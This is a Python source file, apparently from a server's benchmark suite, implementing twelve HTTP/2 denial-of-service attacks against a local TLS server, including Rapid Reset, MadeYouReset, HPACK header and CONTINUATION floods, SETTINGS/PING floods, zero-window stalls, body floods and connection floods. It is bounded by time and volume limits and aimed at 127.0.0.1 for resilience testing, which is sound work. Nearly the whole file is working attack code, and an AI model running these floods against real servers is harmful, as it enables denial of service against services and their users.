#!/usr/bin/python3
"""bench/attack/h2attack.py ATTACK --port PORT [options]

HTTP/2 attacks against a server on 127.0.0.1 over TLS (ALPN h2), for bench/attack/run. The
frames are written by hand (the 9-byte frame header, hpack from Debian's python3-h2 for the
header blocks) so that the tool can send what a conforming client never would; incoming
frames are parsed only as far as the attack needs (windows, SETTINGS, stream ends, GOAWAY).

Connections come from --source (default 127.0.0.2), so that the legitimate client on
127.0.0.1 can be told apart by a server that limits per address. --procs processes share the
connections (Python needs more than one core for a Rapid Reset rate of tens of thousands of
streams per second). Everything is bounded: --seconds of wall time, --max-streams and
--max-bytes per process, reconnections at most 4 x the connections, and SIGTERM stops it.

Output (stdout): READY once every process has set its connections up (or after --ramp
seconds), then one JSON line of counters when it stops.

  rapid_reset          HEADERS (END_STREAM) + RST_STREAM(CANCEL), batched, on --path
  madeyoureset_data    HEADERS (END_STREAM) + an empty DATA frame: the server resets the stream
  madeyoureset_window  HEADERS (END_STREAM) + WINDOW_UPDATE increment 0: the server resets it
  header_flood         one header added to the HPACK table, then referenced by a 1-byte index
                       ~400,000 times per header block (HEADERS + CONTINUATION), 4 in flight
  continuation_flood   HEADERS without END_HEADERS, then empty CONTINUATION frames forever
  settings_ping_flood  SETTINGS + PING frames, never reading the ACKs
  zero_window          SETTINGS_INITIAL_WINDOW_SIZE 0, --streams GETs of --path, never reading
  body_flood           POST --path with content-length 99 MiB, DATA as fast as windows allow
  body_flood_no_cl     the same without content-length
  idle_streams         --streams POSTs per connection that announce a body and never send it
  priority_flood       PRIORITY frames reshuffling 16 idle streams' dependencies
  conn_flood           --connections TLS connections (preface + SETTINGS), held open;
                       those the server closes are opened again
"""
import argparse
import json
import multiprocessing
import os
import random
import resource
import selectors
import signal
import socket
import ssl
import struct
import sys
import time

from hpack import Encoder, NeverIndexedHeaderTuple

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM = ACK = 0x1
END_HEADERS = 0x4
SETTINGS_ENABLE_PUSH, SETTINGS_INITIAL_WINDOW_SIZE = 0x2, 0x4
CANCEL = 0x8
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
FRAME_HEADER = struct.Struct(">BHBBL")  # 24-bit length as 8 + 16 bits, type, flags, stream id
BODY_BYTES = 99 * 1024 * 1024
LOW_WATER = 256 * 1024  # produce more when less than this is waiting to be written
MAX_SID = 2**31 - 1


def frame(ftype, flags, sid, payload=b""):
    n = len(payload)
    return FRAME_HEADER.pack(n >> 16, n & 0xFFFF, ftype, flags, sid) + payload


def settings_payload(settings):
    return b"".join(struct.pack(">HL", k, v) for k, v in settings.items())


def header_block(method, path, extra=()):
    """A header block that never touches the server's HPACK table, so it can be sent again
    as it is on any stream."""
    fields = [(":method", method), (":scheme", "https"), (":authority", "127.0.0.1"), (":path", path)]
    fields += list(extra)
    return Encoder().encode([NeverIndexedHeaderTuple(n, v) for n, v in fields], huffman=False)


def header_frames(sid, block, end_stream, max_frame=16384):
    """HEADERS then CONTINUATION frames carrying block, END_HEADERS on the last."""
    chunks = [block[i:i + max_frame] for i in range(0, len(block), max_frame)] or [b""]
    out = []
    for i, chunk in enumerate(chunks):
        flags = END_HEADERS if i == len(chunks) - 1 else 0
        if i == 0:
            out.append(frame(HEADERS, flags | (END_STREAM if end_stream else 0), sid, chunk))
        else:
            out.append(frame(CONTINUATION, flags, sid, chunk))
    return b"".join(out)


# ------------------------------------------------------------------ connections ----


class Conn:
    """One TLS connection driven without blocking: bytes out, frames in."""

    def __init__(self, args, stats, sel):
        self.stats = stats
        self.sel = sel
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self.fd = self.sock.fileno()  # the same after the TLS wrap; the selector knows it by this
        self.sock.setblocking(False)
        try:
            self.sock.bind((args.source, 0))
            self.sock.connect_ex(("127.0.0.1", args.port))
        except OSError:
            self.sock.close()
            raise
        self.tls = None
        self.state = "connect"  # connect, handshake, open, closed
        self.want = selectors.EVENT_WRITE
        self.mask = 0
        self.out = bytearray()
        self.inbuf = bytearray()
        self.next_sid = 1
        self.open = set()  # our streams the server has not ended yet
        self.conn_window = 65535
        self.initial_window = 65535
        self.windows = {}
        self.max_frame = 16384
        self.goaway = False
        self.finished = False  # the attack has nothing more to send here
        self.a = {}  # the attack's own state for this connection

    def take_sid(self):
        sid = self.next_sid
        self.next_sid += 2
        return sid

    def close(self, by_peer):
        if self.state == "closed":
            return
        if by_peer:
            self.stats["closed_by_server"] += 1
        self.state = "closed"
        if self.mask:
            self.sel.unregister(self.fd)
            self.mask = 0
        try:
            (self.tls or self.sock).close()
        except OSError:
            pass

    def step_connect(self, ctx):
        err = self.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
        if err:
            self.stats["connect_failures"] += 1
            self.close(False)
            return
        self.tls = ctx.wrap_socket(self.sock, do_handshake_on_connect=False, server_hostname="localhost")
        self.state = "handshake"
        self.step_handshake()

    def step_handshake(self):
        try:
            self.tls.do_handshake()
        except ssl.SSLWantReadError:
            self.want = selectors.EVENT_READ
            return
        except ssl.SSLWantWriteError:
            self.want = selectors.EVENT_WRITE
            return
        except (ssl.SSLError, OSError):
            self.stats["handshake_failures"] += 1
            self.close(True)
            return
        if self.tls.selected_alpn_protocol() != "h2":
            self.stats["handshake_failures"] += 1
            self.close(False)
            return
        self.state = "open"
        self.stats["connections_opened"] += 1

    def flush(self):
        while self.out:
            try:
                n = self.tls.send(self.out[:262144])
            except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError):
                return
            except (ssl.SSLError, OSError):
                self.close(True)
                return
            self.stats["bytes_sent"] += n
            del self.out[:n]

    def receive(self, attack):
        while True:
            try:
                data = self.tls.recv(262144)
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
                break
            except (ssl.SSLError, OSError):
                self.close(True)
                return
            if not data:
                self.close(True)
                return
            self.stats["bytes_received"] += len(data)
            self.inbuf += data
        self.parse(attack)

    def parse(self, attack):
        buf, off = self.inbuf, 0
        while len(buf) - off >= 9:
            hi, lo, ftype, flags, sid = FRAME_HEADER.unpack_from(buf, off)
            length = (hi << 16) | lo
            if len(buf) - off - 9 < length:
                break
            payload = bytes(buf[off + 9:off + 9 + length])
            off += 9 + length
            self.on_frame(attack, ftype, flags, sid & MAX_SID, payload)
        del buf[:off]

    def on_frame(self, attack, ftype, flags, sid, payload):
        if ftype == SETTINGS and not flags & ACK:
            for i in range(0, len(payload) - 5, 6):
                key, value = struct.unpack_from(">HL", payload, i)
                if key == SETTINGS_INITIAL_WINDOW_SIZE:
                    for s in self.windows:
                        self.windows[s] += value - self.initial_window
                    self.initial_window = value
                elif key == 0x5:
                    self.max_frame = value
            if attack.acks_settings:
                self.out += frame(SETTINGS, ACK, 0)
        elif ftype == WINDOW_UPDATE and len(payload) == 4:
            inc = struct.unpack(">L", payload)[0] & MAX_SID
            if sid == 0:
                self.conn_window += inc
            elif sid in self.windows:
                self.windows[sid] += inc
        elif ftype == GOAWAY:
            self.stats["goaway_received"] += 1
            self.goaway = True
        elif ftype == RST_STREAM:
            self.stats["rst_received"] += 1
            self.end_stream(attack, sid)
        elif ftype in (HEADERS, DATA) and flags & END_STREAM:
            if ftype == HEADERS:
                self.stats["responses"] += 1
            self.end_stream(attack, sid)
        elif ftype == HEADERS:
            self.stats["responses"] += 1

    def end_stream(self, attack, sid):
        if sid in self.open:
            self.open.discard(sid)
            self.windows.pop(sid, None)
            attack.stream_ended(self, sid)


# ---------------------------------------------------------------------- attacks ----


class Attack:
    reads = True  # read (and parse) what the server sends
    acks_settings = True
    reconnect = False  # open a new connection when the server closes one
    client_settings = {SETTINGS_ENABLE_PUSH: 0}
    batch = 100

    def __init__(self, args, stats):
        self.args = args
        self.stats = stats
        bearer = [("authorization", f"Bearer {args.token}")] if args.token else []
        self.get_block = header_block("GET", args.path, bearer)

    def preface(self, c):
        return PREFACE + frame(SETTINGS, 0, 0, settings_payload(self.client_settings))

    def budget_left(self):
        return self.stats["streams"] < self.args.max_streams and self.stats["bytes_sent"] < self.args.max_bytes

    def produce(self, c):
        """Bytes to write next on c, or None when there is nothing (for now)."""
        return None

    def stream_ended(self, c, sid):
        pass


class RapidReset(Attack):
    """Each request is answered by the server's handler before the RST_STREAM in the same
    read is seen (libh2o 2.2 dispatches on END_STREAM)."""

    follow = None  # the frame that makes the stream end

    def produce(self, c):
        if not self.budget_left() or c.goaway or c.next_sid > MAX_SID - 2 * self.batch:
            c.finished = True
            return None
        parts = []
        for _ in range(self.batch):
            sid = c.take_sid()
            parts.append(frame(HEADERS, END_STREAM | END_HEADERS, sid, self.get_block))
            parts.append(self.second_frame(sid))
        self.stats["streams"] += self.batch
        return b"".join(parts)

    def second_frame(self, sid):
        return frame(RST_STREAM, 0, sid, struct.pack(">L", CANCEL))


class MadeYouResetData(RapidReset):
    """DATA on a stream the client already ended: the server must reset it (STREAM_CLOSED)."""

    def second_frame(self, sid):
        return frame(DATA, 0, sid)


class MadeYouResetWindow(RapidReset):
    """WINDOW_UPDATE with increment 0 on the stream: a stream error, the server resets it."""

    def second_frame(self, sid):
        return frame(WINDOW_UPDATE, 0, sid, struct.pack(">L", 0))


class HeaderFlood(Attack):
    """One field in the HPACK dynamic table (index 62), then ~400,000 one-byte references to
    it in each header block: every one becomes a request header in the server."""

    in_flight = 4
    block_bytes = 400000  # under libh2o's 417,792-byte cap on a header block

    def __init__(self, args, stats):
        super().__init__(args, stats)
        bearer = [("authorization", f"Bearer {args.token}")] if args.token else []
        head = header_block("GET", args.path, bearer)
        add = b"\x40" + bytes([7]) + b"x-flood" + bytes([1]) + b"1"  # literal, incremental indexing
        self.first = head + add + b"\xbe" * (self.block_bytes - len(head) - len(add))
        self.rest = head + b"\xbe" * (self.block_bytes - len(head))

    def produce(self, c):
        if c.goaway or len(c.open) >= self.in_flight or not self.budget_left():
            return None
        sid = c.take_sid()
        block = self.rest if c.a.get("indexed") else self.first
        c.a["indexed"] = True
        c.open.add(sid)
        self.stats["streams"] += 1
        return header_frames(sid, block, True, c.max_frame)


class ContinuationFlood(Attack):
    """A header block that never ends: empty CONTINUATION frames do not grow it, so
    libh2o's cap on its size is never reached."""

    reconnect = True
    acks_settings = False  # a SETTINGS ACK inside the header block would end the connection
    batch = 2000

    def produce(self, c):
        if not self.budget_left() or c.goaway:
            c.finished = True
            return None
        out = b""
        if "sid" not in c.a:
            c.a["sid"] = c.take_sid()
            self.stats["streams"] += 1
            out = frame(HEADERS, END_STREAM, c.a["sid"], self.get_block)
        self.stats["frames"] += self.batch
        return out + frame(CONTINUATION, 0, c.a["sid"]) * self.batch


class SettingsPingFlood(Attack):
    """Every SETTINGS and PING obliges the server to answer with an ACK; the ACKs are never
    read."""

    reads = False
    batch = 500

    def produce(self, c):
        if not self.budget_left():
            c.finished = True
            return None
        pair = frame(SETTINGS, 0, 0, settings_payload({SETTINGS_ENABLE_PUSH: 0})) + frame(PING, 0, 0, b"\0" * 8)
        self.stats["frames"] += 2 * self.batch
        return pair * self.batch


class ZeroWindow(Attack):
    """A reader that never reads and gives the server no window: every response waits."""

    reads = False
    client_settings = {SETTINGS_ENABLE_PUSH: 0, SETTINGS_INITIAL_WINDOW_SIZE: 0}

    def produce(self, c):
        c.finished = True
        parts = []
        for _ in range(self.args.streams):
            parts.append(frame(HEADERS, END_STREAM | END_HEADERS, c.take_sid(), self.get_block))
        self.stats["streams"] += self.args.streams
        return b"".join(parts)


class BodyFlood(Attack):
    """Request bodies of 99 MiB, one stream at a time per connection, as fast as the
    server's windows allow; libh2o 2.2 buffers a body whole before the handler runs."""

    with_length = True

    def __init__(self, args, stats):
        super().__init__(args, stats)
        extra = [("content-type", "application/octet-stream")]
        if self.with_length:
            extra.append(("content-length", str(BODY_BYTES)))
        self.post_block = header_block("POST", args.path, extra)
        self.zeros = bytes(16384)

    def produce(self, c):
        if c.goaway or not self.budget_left():
            c.finished = True
            return None
        out = []
        if c.a.get("sid") is None:
            sid = c.take_sid()
            c.a.update(sid=sid, left=BODY_BYTES)
            c.open.add(sid)
            c.windows[sid] = c.initial_window
            self.stats["streams"] += 1
            out.append(frame(HEADERS, END_HEADERS, sid, self.post_block))
        sid = c.a["sid"]
        budget = 1024 * 1024
        while budget > 0 and c.a["left"] > 0:
            n = min(c.max_frame, len(self.zeros), c.a["left"], c.conn_window, c.windows.get(sid, 0))
            if n <= 0:
                break
            c.a["left"] -= n
            c.conn_window -= n
            c.windows[sid] -= n
            budget -= n
            self.stats["body_bytes"] += n
            out.append(frame(DATA, END_STREAM if c.a["left"] == 0 else 0, sid, self.zeros[:n]))
        if c.a["left"] == 0:
            c.a["sid"] = None  # sent whole: the next produce starts another body
        return b"".join(out) if out else None

    def stream_ended(self, c, sid):
        if c.a.get("sid") == sid:  # reset or answered before the body was sent whole
            c.a["sid"] = None


class BodyFloodNoLength(BodyFlood):
    with_length = False


class IdleStreams(Attack):
    """Requests that announce a body and never send it: each holds a stream open."""

    def __init__(self, args, stats):
        super().__init__(args, stats)
        self.post_block = header_block("POST", args.path, [("content-type", "application/json"),
                                                           ("content-length", "64")])

    def produce(self, c):
        if c.goaway or not self.budget_left():
            return None
        parts = []
        while len(c.open) < self.args.streams:
            sid = c.take_sid()
            c.open.add(sid)
            parts.append(frame(HEADERS, END_HEADERS, sid, self.post_block))
            self.stats["streams"] += 1
        return b"".join(parts) if parts else None


class PriorityFlood(Attack):
    """PRIORITY frames on 16 idle streams (libh2o keeps at most 16 such), each making a
    random one of the others its exclusive parent: the priority tree is rebuilt all the time."""

    reconnect = True
    batch = 1000
    pool = [1001 + 2 * i for i in range(16)]

    def produce(self, c):
        if c.goaway or not self.budget_left():
            c.finished = True
            return None
        parts = []
        for _ in range(self.batch):
            sid, dep = random.sample(self.pool, 2)
            parts.append(frame(PRIORITY, 0, sid, struct.pack(">LB", (1 << 31) | dep, random.randrange(256))))
        self.stats["frames"] += self.batch
        return b"".join(parts)


class ConnFlood(Attack):
    """Connections that complete TLS and the HTTP/2 preface, then only stay."""

    reconnect = True


ATTACKS = {
    "rapid_reset": RapidReset,
    "madeyoureset_data": MadeYouResetData,
    "madeyoureset_window": MadeYouResetWindow,
    "header_flood": HeaderFlood,
    "continuation_flood": ContinuationFlood,
    "settings_ping_flood": SettingsPingFlood,
    "zero_window": ZeroWindow,
    "body_flood": BodyFlood,
    "body_flood_no_cl": BodyFloodNoLength,
    "idle_streams": IdleStreams,
    "priority_flood": PriorityFlood,
    "conn_flood": ConnFlood,
}


# ----------------------------------------------------------------------- driver ----


def client_context():
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.set_alpn_protocols(["h2"])
    return ctx


class Worker:
    """One process: its share of the connections, one selector loop."""

    def __init__(self, args, count, stop):
        self.args = args
        self.count = count
        self.stop = stop
        self.stats = {k: 0 for k in ("streams", "frames", "body_bytes", "bytes_sent", "bytes_received",
                                     "connections_opened", "closed_by_server", "connect_failures",
                                     "handshake_failures", "goaway_received", "rst_received", "responses")}
        self.attack = ATTACKS[args.attack](args, self.stats)
        self.ctx = client_context()
        self.sel = selectors.DefaultSelector()
        self.conns = []
        self.started = 0

    def start_conn(self):
        try:
            c = Conn(self.args, self.stats, self.sel)
        except OSError:
            self.stats["connect_failures"] += 1
            self.started += 1
            return
        self.started += 1
        self.conns.append(c)

    def pending_setup(self):
        return sum(1 for c in self.conns if c.state in ("connect", "handshake"))

    def top_up(self):
        """Keeps up to --connections open, at most 200 handshakes in flight; closed ones are
        replaced only by attacks that reconnect, and at most 4 x the connections in all."""
        limit = self.count * (5 if self.attack.reconnect else 1)
        self.conns = [c for c in self.conns if c.state != "closed"]
        setting_up = self.pending_setup()
        while len(self.conns) < self.count and self.started < limit and setting_up < 200:
            self.start_conn()
            setting_up += 1

    def update(self, c):
        if c.state == "closed":
            return
        if c.state in ("connect", "handshake"):
            want = c.want
        else:
            want = (selectors.EVENT_READ if self.attack.reads else 0) | (selectors.EVENT_WRITE if c.out else 0)
        if want != c.mask:
            if c.mask and want:
                self.sel.modify(c.fd, want, c)
            elif want:
                self.sel.register(c.fd, want, c)
            else:
                self.sel.unregister(c.fd)
            c.mask = want

    def feed(self, c):
        if c.state != "open" or c.finished:
            return
        if not c.a.get("preface"):
            c.a["preface"] = True
            c.out += self.attack.preface(c)
        while len(c.out) < LOW_WATER and not c.finished:
            more = self.attack.produce(c)
            if not more:
                break
            c.out += more

    def handle(self, c, events):
        if c.state == "connect":
            c.step_connect(self.ctx)
        elif c.state == "handshake":
            c.step_handshake()
        else:
            if events & selectors.EVENT_READ:
                c.receive(self.attack)
            if c.state == "open" and c.out:
                c.flush()

    def ready(self):
        return self.started >= self.count and self.pending_setup() == 0

    def run(self, deadline, report_ready):
        announced = False
        ramp_end = time.monotonic() + self.args.ramp
        while time.monotonic() < deadline and not self.stop.is_set():
            self.top_up()
            for c in self.conns:
                self.feed(c)
                if c.state == "open" and c.out:
                    c.flush()
                self.update(c)
            if not announced and (self.ready() or time.monotonic() >= ramp_end):
                report_ready()
                announced = True
            for key, events in self.sel.select(timeout=0.02):
                self.handle(key.data, events)
        for c in self.conns:
            c.close(False)
        if not announced:
            report_ready()
        return self.stats


def run_worker(args, count, stop, queue):
    signal.signal(signal.SIGTERM, signal.SIG_IGN)  # the parent decides when to stop
    signal.signal(signal.SIGINT, signal.SIG_IGN)
    started = time.monotonic()
    worker = Worker(args, count, stop)
    stats = worker.run(started + args.seconds, lambda: queue.put(("ready", None)))
    stats["elapsed_s"] = round(time.monotonic() - started, 3)
    queue.put(("stats", stats))


def raise_fd_limit():
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < hard:
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("attack", choices=sorted(ATTACKS))
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--source", default="127.0.0.2", help="local address to connect from")
    parser.add_argument("--path", default="/api/v1/me")
    parser.add_argument("--token", default="", help="access token (authorization: Bearer)")
    parser.add_argument("--connections", type=int, default=4)
    parser.add_argument("--procs", type=int, default=1)
    parser.add_argument("--streams", type=int, default=100, help="streams per connection (zero_window, idle_streams)")
    parser.add_argument("--seconds", type=float, default=10.0, help="hard bound on the attack's duration")
    parser.add_argument("--ramp", type=float, default=3.0, help="READY at the latest after this many seconds")
    parser.add_argument("--max-streams", type=int, default=50_000_000, help="per process")
    parser.add_argument("--max-bytes", type=int, default=8 << 30, help="per process")
    args = parser.parse_args()
    if args.connections < 1 or args.procs < 1 or not 0 < args.seconds <= 120:
        parser.error("--connections and --procs must be >= 1, --seconds in (0, 120]")
    raise_fd_limit()
    stop = multiprocessing.Event()
    queue = multiprocessing.Queue()
    procs = min(args.procs, args.connections)
    shares = [args.connections // procs + (1 if i < args.connections % procs else 0) for i in range(procs)]
    workers = [multiprocessing.Process(target=run_worker, args=(args, n, stop, queue)) for n in shares]
    signal.signal(signal.SIGTERM, lambda *_: stop.set())
    signal.signal(signal.SIGINT, lambda *_: stop.set())
    started = time.monotonic()
    for w in workers:
        w.start()
    total, ready, done = {}, 0, 0
    while done < len(workers):
        try:
            kind, value = queue.get(timeout=args.seconds + 30)
        except Exception:  # queue.Empty: a worker died; stop the others and report what we have
            stop.set()
            total["lost_workers"] = len(workers) - done
            break
        if kind == "ready":
            ready += 1
            if ready == len(workers):
                print("READY", flush=True)
        else:
            done += 1
            for k, v in value.items():
                total[k] = round(total.get(k, 0) + v, 3) if k != "elapsed_s" else max(total.get(k, 0), v)
    for w in workers:
        w.join(timeout=10)
        if w.is_alive():
            w.kill()
    total["wall_s"] = round(time.monotonic() - started, 3)
    total.update(attack=args.attack, connections=args.connections, procs=procs)
    print(json.dumps(total), flush=True)


if __name__ == "__main__":
    sys.exit(main())
